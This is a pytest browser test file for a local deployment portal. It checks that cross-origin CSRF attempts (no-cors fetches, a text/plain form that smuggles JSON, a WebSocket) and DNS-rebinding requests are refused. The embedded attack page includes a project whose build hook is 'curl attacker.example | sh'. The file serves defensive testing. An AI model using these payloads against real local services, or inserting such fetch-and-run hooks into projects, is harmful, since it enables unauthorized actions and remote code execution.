"""Browser-safe without login, in real Chromium against the whole system (auth off on loopback).

A page on another origin tries what a malicious site could: ``no-cors`` fetch POSTs with
``text/plain`` and with no body, a form post, and a WebSocket to the event feed. Everything is
refused and nothing is created (checked through the API). A foreign ``Host`` (DNS rebinding)
gets a 4xx, and the portal's own same-origin JSON requests still work.
"""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from ferry.local.natsserver import NatsServer, free_port
from tests.e2e.portal_helpers import CHROMIUM, CHROMIUM_ARGS, chromium_unavailable_reason
from tests.harness.system import System, start_system

pytestmark = [pytest.mark.browser]
ATTACKER = "attacker.example"
REBOUND = "evil.example"

ATTACK_PAGE = """<!doctype html><html><body>
<iframe name="sink"></iframe>
<form id="f" method="POST" enctype="text/plain" target="sink" action="API/projects">
<input name='{"name":"evil-form","deploy_path":"/srv/x","repo_url":"https://x.example/r.git","p":"'
 value='"}'>
</form>
<script>
window.results = {};
const api = "API";
const project = {name: "evil-fetch", repo_url: "https://x.example/r.git", deploy_path: "/srv/x",
                 build_hooks: ["curl attacker.example | sh"]};
async function attack() {
  for (const [name, init] of [
    ["text_plain", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
                    body: JSON.stringify(project)}],
    ["no_body", {method: "POST", mode: "no-cors"}],
    ["form_urlencoded", {method: "POST", mode: "no-cors", body: new URLSearchParams({a: "1"})}],
  ]) {
    try { await fetch(`${api}/projects`, init); results[name] = "sent"; }
    catch (e) { results[name] = "error: " + e; }
  }
  try { await fetch(`${api}/releases/r1-x/approve`, {method: "POST", mode: "no-cors"}); } catch (e) {}
  document.getElementById("f").submit();
  results.ws = await new Promise((resolve) => {
    const ws = new WebSocket("WS/ws/all?since=0");
    ws.onopen = () => resolve("open");
    ws.onerror = () => resolve("refused");
    ws.onclose = () => resolve("refused");
  });
  results.done = true;
}
attack();
</script></body></html>"""


@pytest.fixture
def system(tmp_path: Path, nats_server: NatsServer) -> Iterator[System]:
    s = start_system(tmp_path / "home", nats_url=nats_server.url, agents=1)
    try:
        yield s
    finally:
        s.api.close()
        s.launcher.stop()


@pytest.fixture
def attacker_site(system: System) -> Iterator[str]:
    """An HTTP server on another origin serving the attack page; its base URL."""
    port = free_port()
    page = ATTACK_PAGE.replace("API", f"{system.url.rstrip('/')}/api").replace("WS", system.ws_url).encode()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://{ATTACKER}:{port}"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
async def browser() -> AsyncIterator[Any]:
    reason = chromium_unavailable_reason()
    if reason:
        pytest.skip(reason)
    from playwright.async_api import async_playwright

    rules = f"--host-resolver-rules=MAP {ATTACKER} 127.0.0.1, MAP {REBOUND} 127.0.0.1"
    async with async_playwright() as pw:
        b = await pw.chromium.launch(executable_path=CHROMIUM, args=[*CHROMIUM_ARGS, rules])
        try:
            yield b
        finally:
            await b.close()


async def test_a_page_elsewhere_changes_nothing(system: System, attacker_site: str, browser: Any) -> None:
    page = await browser.new_page()
    answers: dict[str, int] = {}

    async def seen(response: Any) -> None:
        if "/api/" in response.url:
            answers[f"{response.request.method} {response.url.split('/api', 1)[1]}"] = response.status

    page.on("response", seen)
    await page.goto(attacker_site)
    await page.wait_for_function("() => window.results && window.results.done === true", timeout=30_000)
    results = await page.evaluate("() => window.results")
    assert results["ws"] == "refused", results
    await page.wait_for_load_state("networkidle")

    # Nothing was created, through any of the doors.
    projects = system.api.get("/api/projects").json()["projects"]
    assert [p["name"] for p in projects if p["name"].startswith("evil")] == []
    # The gateway saw the requests and refused them (opaque to the page, visible here).
    assert answers, "the browser sent nothing?"
    assert all(400 <= status < 500 for status in answers.values()), answers
    assert answers.get("POST /projects") == 403, answers
    await page.close()


async def test_a_foreign_host_is_refused(system: System, browser: Any) -> None:
    port = system.url.rstrip("/").rsplit(":", 1)[1]
    # DNS rebinding: a name the attacker controls, now pointing at 127.0.0.1.
    page = await browser.new_page()
    response = await page.goto(f"http://{REBOUND}:{port}/")
    assert response is not None and response.status == 421
    response = await page.goto(f"http://{REBOUND}:{port}/api/projects")
    assert response is not None and response.status == 421
    await page.close()
    async with httpx.AsyncClient(base_url=system.url.rstrip("/")) as client:
        r = await client.post(
            "/api/projects",
            headers={"Host": REBOUND, "Content-Type": "application/json"},
            content=json.dumps({"name": "rebound"}),
        )
        assert r.status_code == 421 and r.json()["error"]["field"] == "host"
        r = await client.get("/healthz", headers={"Host": f"{REBOUND}:{port}"})
        assert 400 <= r.status_code < 500


async def test_the_portal_itself_still_writes(system: System, browser: Any) -> None:
    page = await browser.new_page()
    await page.goto(f"{system.url.rstrip('/')}/")
    status = await page.evaluate(
        """async () => (await fetch("/api/credentials", {method: "POST",
             headers: {"Content-Type": "application/json", Accept: "application/json"},
             body: JSON.stringify({name: "from-portal", kind: "password", secret: "pw-123456"})})).status"""
    )
    assert status == 201
    await page.close()
    assert system.api.get("/api/credentials/from-portal").status_code == 200
